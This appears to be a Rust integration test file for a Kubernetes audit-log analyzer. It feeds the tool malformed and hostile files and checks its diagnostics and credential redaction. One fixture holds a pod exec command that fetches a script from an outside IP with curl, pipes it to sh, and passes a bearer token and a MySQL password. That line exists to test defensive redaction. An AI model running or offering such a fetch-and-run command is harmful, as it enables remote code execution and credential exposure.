//! Hostile and broken files given to the real binary: each is reported with a clear diagnostic
//! naming the file and line, nothing panics, and a good event after the damage is still read.
//!
//! Every file here is written by the test, one good audit event at its end (auditID `good`),
//! except where the damage makes that impossible (a directory, an unclosed array).

#![allow(clippy::unwrap_used, clippy::disallowed_methods)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

const GOOD: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"good","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"list","user":{"username":"alice","groups":["system:authenticated"]},"sourceIPs":["10.0.0.1"],"userAgent":"kubectl/v1.29.2","objectRef":{"resource":"pods","namespace":"default","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-03-02T10:00:00.000000Z","stageTimestamp":"2026-03-02T10:00:00.100000Z"}"#;

fn dir() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("hostile");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn write(name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir().join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// A file of `damage` followed by the good event on a line of its own.
fn then_good(name: &str, damage: &[u8]) -> PathBuf {
    let mut bytes = damage.to_vec();
    bytes.push(b'\n');
    bytes.extend_from_slice(GOOD.as_bytes());
    bytes.push(b'\n');
    write(name, &bytes)
}

/// A good event with `from` replaced by `to`.
fn good_with(from: &str, to: &str) -> String {
    assert!(GOOD.contains(from), "{from}");
    GOOD.replacen(from, to, 1)
}

/// `auditlens analyze --format json PATH`: the exit status, the report, stderr.
fn analyze(path: &Path) -> (Output, Value) {
    let output = Command::new(env!("CARGO_BIN_EXE_auditlens"))
        .args(["analyze", "--format", "json", "--min-severity", "info"])
        .arg(path)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();
    assert!(
        !stderr.contains("panicked") && output.status.code() != Some(101),
        "{}: {stderr}",
        path.display()
    );
    let report = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output, report)
}

/// The diagnostics as (line, kind, severity, message), each checked to name the file.
fn diagnostics(report: &Value, path: &Path) -> Vec<(u64, String, String, String)> {
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            assert_eq!(d["file"], path.display().to_string(), "{d}");
            (
                d["line"].as_u64().unwrap(),
                d["kind"].as_str().unwrap().to_string(),
                d["severity"].as_str().unwrap().to_string(),
                d["message"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// The good event was read: one request with its auditID among the file's.
fn good_was_read(report: &Value, path: &Path) {
    let events = report["summary"]["events"].as_u64().unwrap();
    assert!(events >= 1, "{}: {}", path.display(), report["summary"]);
}

#[test]
fn deeply_nested_json_is_one_bad_record() {
    let path = then_good("nested-objects.log", "{\"a\":".repeat(100_000).as_bytes());
    let (output, report) = analyze(&path);
    assert_eq!(output.status.code(), Some(0));
    let found = diagnostics(&report, &path);
    assert_eq!(found[0].0, 1);
    assert_eq!(found[0].1, "malformed-json");
    good_was_read(&report, &path);
    // As a JSON array that never closes: the whole file is that array, and it is said.
    let path = then_good("nested-arrays.log", "[".repeat(100_000).as_bytes());
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    assert!(
        found.iter().any(|d| d.1 == "unterminated-document"),
        "{found:?}"
    );
}

#[test]
fn a_100_mb_line_is_skipped_without_being_held() {
    let mut line = b"{\"kind\":\"Event\",\"x\":\"".to_vec();
    line.resize(100 * 1024 * 1024, b'A');
    line.extend_from_slice(b"\"}");
    let path = then_good("long-line.log", &line);
    drop(line);
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].0, found[0].1.as_str()), (1, "record-too-long"));
    assert!(found[0].3.contains("--max-record-bytes"), "{}", found[0].3);
    good_was_read(&report, &path);
    assert_eq!(report["summary"]["requests"], 1);
}

#[test]
fn bytes_that_are_not_utf8_and_lone_surrogates_are_replaced() {
    let mut bytes = good_with("\"alice\"", "\"al\u{FFFD}ice\"")
        .replace("\"good\"", "\"u1\"")
        .into_bytes();
    // Put a bare 0xff where the replacement character was.
    let at = bytes
        .windows(3)
        .position(|w| w == "\u{FFFD}".as_bytes())
        .unwrap();
    bytes.splice(at..at + 3, [0xff]);
    let surrogate = good_with("\"good\"", "\"s1\"").replace("alice", "al\\ud800ice");
    let low = good_with("\"good\"", "\"s2\"").replace("kubectl", "kube\\udfffctl");
    let path = then_good(
        "encoding.log",
        [
            bytes,
            b"\n".to_vec(),
            surrogate.into(),
            b"\n".to_vec(),
            low.into(),
        ]
        .concat()
        .as_slice(),
    );
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    let warned: Vec<(u64, &str)> = found.iter().map(|d| (d.0, d.1.as_str())).collect();
    assert_eq!(
        warned,
        [
            (1, "invalid-utf8"),
            (2, "invalid-utf8"),
            (3, "invalid-utf8")
        ]
    );
    assert!(found.iter().all(|d| d.2 == "warning"));
    assert!(found[1].3.contains("surrogates"), "{}", found[1].3);
    // Every event kept: u1, s1, s2 and the good one.
    assert_eq!(report["summary"]["events"], 4);
    assert_eq!(report["summary"]["requests"], 4);
    assert_eq!(report["summary"]["rejected"], 0);
}

#[test]
fn nul_bytes_and_binary_garbage_are_bad_lines_and_the_rest_is_read() {
    let nul = then_good("nul.log", b"\0\0\0");
    let (_, report) = analyze(&nul);
    let found = diagnostics(&report, &nul);
    assert_eq!(found[0].0, 1);
    assert_eq!(found[0].2, "error");
    good_was_read(&report, &nul);
    // A NUL inside an event's string is a control character JSON does not allow.
    let inside = then_good(
        "nul-inside.log",
        good_with("kubectl", "kube\0ctl").as_bytes(),
    );
    let (_, report) = analyze(&inside);
    assert_eq!(diagnostics(&report, &inside)[0].1, "malformed-json");
    good_was_read(&report, &inside);

    // A megabyte of bytes from a fixed generator (xorshift), then the good event.
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let garbage: Vec<u8> = (0..1 << 20)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect();
    let path = then_good("garbage.bin", &garbage);
    let (output, report) = analyze(&path);
    assert_eq!(output.status.code(), Some(0));
    let summary = &report["summary"];
    assert_eq!(summary["events"], 1, "{summary}");
    // Every line is accounted for: blank, or a record accepted, rejected or skipped.
    let records = summary["records"].as_u64().unwrap();
    assert_eq!(
        summary["lines"].as_u64().unwrap(),
        summary["blank_lines"].as_u64().unwrap() + records
    );
    assert_eq!(
        records,
        summary["accepted"].as_u64().unwrap()
            + summary["rejected"].as_u64().unwrap()
            + summary["skipped"].as_u64().unwrap()
    );
}

#[test]
fn odd_numbers_and_timestamps_keep_the_event_and_say_what_was_wrong() {
    let lines = [
        good_with("\"code\":200", "\"code\":99999999999999999999999"),
        good_with("\"code\":200", "\"code\":-5").replace("\"good\"", "\"n2\""),
        good_with("\"code\":200", "\"code\":\"403\"").replace("\"good\"", "\"n3\""),
        good_with("\"code\":200", "\"code\":1e999").replace("\"good\"", "\"n4\""),
        good_with("2026-03-02T10:00:00.000000Z", "9999-12-31T23:59:59Z")
            .replace("2026-03-02T10:00:00.100000Z", "9999-12-31T23:59:59Z")
            .replace("\"good\"", "\"t1\""),
        good_with("\"2026-03-02T10:00:00.000000Z\"", "1772445600123").replace("\"good\"", "\"t2\""),
        good_with("2026-03-02T10:00:00.000000Z", "yesterday")
            .replace("2026-03-02T10:00:00.100000Z", "")
            .replace("\"good\"", "\"t3\""),
    ]
    .join("\n");
    let path = then_good("values.log", lines.as_bytes());
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    let summary = &report["summary"];
    // 1e999 is a number JSON parsers refuse (out of f64 range): that line alone is rejected.
    assert_eq!(summary["rejected"], 1, "{found:?}");
    assert_eq!(summary["events"], 7);
    let messages: Vec<&str> = found.iter().map(|d| d.3.as_str()).collect();
    assert!(
        messages.iter().any(|m| m.starts_with(
            "2 events have a responseStatus.code that is not a number from 0 to 65535 (lines 1, 2)"
        )),
        "{messages:?}"
    );
    assert!(
        messages.iter().any(|m| m
            .starts_with("2 events have a timestamp that is not a time from 2000 to 2099")
            && m.contains("(lines 5, 7)")),
        "{messages:?}"
    );
    // The epoch milliseconds were read as a time: the file starts then.
    assert_eq!(summary["first"], "2026-03-02T10:00:00.000000Z");
    assert_eq!(summary["last"], "2026-03-02T10:00:00.123000Z");
}

#[test]
fn a_reused_audit_id_with_other_content_is_a_request_of_its_own() {
    let forged = good_with("\"verb\":\"list\"", "\"verb\":\"delete\"").replace("alice", "mallory");
    let path = then_good("reused-id.log", forged.as_bytes());
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].0, found[0].1.as_str()),
        (2, "conflicting-audit-id")
    );
    assert!(
        found[0]
            .3
            .contains(r#"user "alice" here, "mallory" before"#),
        "{}",
        found[0].3
    );
    assert_eq!(report["summary"]["requests"], 2);
    // The same event twice is one request, said nothing about.
    let path = then_good("repeated.log", GOOD.as_bytes());
    let (_, report) = analyze(&path);
    assert!(diagnostics(&report, &path).is_empty());
    assert_eq!(report["summary"]["requests"], 1);
}

#[test]
fn files_that_are_not_logs_say_so() {
    let empty = write("empty.log", b"");
    let (output, report) = analyze(&empty);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(report["summary"]["lines"], 0);

    let html = write(
        "page.html",
        b"<!doctype html>\n<html><body><script>alert(1)</script></body></html>\n",
    );
    let (_, report) = analyze(&html);
    let found = diagnostics(&report, &html);
    assert!(
        found
            .iter()
            .any(|d| d.1 == "not-audit-event" && d.3.contains("no audit events found in")),
        "{found:?}"
    );

    let folder = dir().join("a-directory");
    std::fs::create_dir_all(&folder).unwrap();
    let (output, _) = analyze(&folder);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains(&format!("cannot read {}", folder.display())),
        "{stderr}"
    );
}

#[test]
fn keys_given_twice_keep_the_event_with_the_last_value_and_say_so() {
    // The verb and the user named twice: the last of each is read, as Go and jq read them.
    let twice = good_with("\"good\"", "\"d1\"")
        .replace("\"verb\":\"list\"", "\"verb\":\"list\",\"verb\":\"delete\"")
        .replace(
            "\"username\":\"alice\"",
            "\"username\":\"alice\",\"username\":\"system:anonymous\"",
        );
    // And a repeated key in a line that also holds bytes that are not UTF-8.
    let mut both = good_with("\"good\"", "\"d2\"")
        .replace(
            "\"level\":\"Metadata\"",
            "\"level\":\"Metadata\",\"level\":\"Request\"",
        )
        .into_bytes();
    let at = both.windows(7).position(|w| w == b"kubectl").unwrap();
    both[at + 4] = 0xff;
    let path = then_good(
        "duplicate-keys.log",
        &[twice.into_bytes(), b"\n".to_vec(), both].concat(),
    );
    let (_, report) = analyze(&path);
    let found = diagnostics(&report, &path);
    let warned: Vec<(u64, &str, &str)> = found
        .iter()
        .map(|d| (d.0, d.1.as_str(), d.2.as_str()))
        .collect();
    assert_eq!(
        warned,
        [
            (1, "duplicate-key", "warning"),
            (2, "invalid-utf8", "warning"),
            (2, "duplicate-key", "warning"),
        ]
    );
    assert!(
        found[0].3.contains(r#""verb", "username""#),
        "{}",
        found[0].3
    );
    assert!(found[0].3.contains("the last value"), "{}", found[0].3);
    assert_eq!(report["summary"]["events"], 3);
    assert_eq!(report["summary"]["rejected"], 0);
    good_was_read(&report, &path);

    // What was read is the last value: the same request written once with it is the same.
    let once = good_with("\"good\"", "\"d1\"")
        .replace("\"verb\":\"list\"", "\"verb\":\"delete\"")
        .replace("alice", "system:anonymous");
    let plain = then_good("duplicate-keys-once.log", once.as_bytes());
    let (_, plain_report) = analyze(&plain);
    let tally = |r: &Value| {
        let mut ids: Vec<String> = r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["auditID"] == "d1")
            .map(|f| format!("{} {}", f["rule"], f["identity"]))
            .collect();
        ids.sort();
        ids
    };
    let found_once = tally(&plain_report);
    assert!(
        !found_once.is_empty(),
        "the single-write event gives findings"
    );
    assert!(
        found_once.iter().all(|f| f.contains("system:anonymous")),
        "{found_once:?}"
    );
    assert_eq!(tally(&report), found_once);
}

#[test]
fn credentials_in_an_exec_command_are_redacted_in_every_format() {
    let uri = "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=curl+-H+%22Authorization%3A+Bearer+SEKRIT.TOKEN%22+http%3A%2F%2F203.0.113.9%2Fx.sh+%7C+sh+%26%26+mysql+--password%3DHUNTER2&container=web&stdin=true&stdout=true&tty=true";
    let exec = good_with("\"good\"", "\"x1\"")
        .replace("/api/v1/namespaces/default/pods", uri)
        .replace("\"verb\":\"list\"", "\"verb\":\"create\"")
        .replace(
            "\"resource\":\"pods\",",
            "\"resource\":\"pods\",\"subresource\":\"exec\",\"name\":\"web\",",
        )
        .replace("\"code\":200", "\"code\":101");
    let path = then_good("exec-credentials.log", exec.as_bytes());
    let (_, report) = analyze(&path);
    let messages: Vec<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["reasons"].as_array().unwrap().clone())
        .map(|r| r.to_string())
        .collect();
    assert!(
        messages
            .iter()
            .any(|m| m.contains("Bearer [redacted]") && m.contains("--password=[redacted]")),
        "{messages:?}"
    );
    for format in ["table", "json", "jsonl", "csv"] {
        let output = Command::new(env!("CARGO_BIN_EXE_auditlens"))
            .args(["analyze", "--min-severity", "info", "--format", format])
            .arg(&path)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(text.contains("web"), "{format}: {text}");
        assert!(
            !text.contains("SEKRIT") && !text.contains("HUNTER2"),
            "{format} leaks a credential: {text}"
        );
    }
}
